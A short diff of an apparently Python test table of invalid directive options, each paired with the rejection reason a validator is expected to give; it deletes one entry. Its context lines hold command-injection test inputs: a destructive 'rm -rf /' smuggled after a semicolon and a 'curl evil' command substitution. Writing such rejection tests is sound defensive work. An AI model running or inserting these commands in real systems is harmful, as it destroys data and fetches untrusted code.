@@ -651,7 +651,6 @@ OPTIONS: list[tuple[str, str, str, str]] = [
     ("listing", RUN_REC, ":lines: 3-9", "past the end"),
     ("run-command", "tiny-pending", ":suffix: A; rm -rf / #", "a command separator"),
     ("run-command", "tiny-pending", ":program: python3 $(curl evil)", "a command substitution"),
-    ("run-command", "tiny-pending", ":array: X;rm", "not a shell variable name"),
 ]
 
 
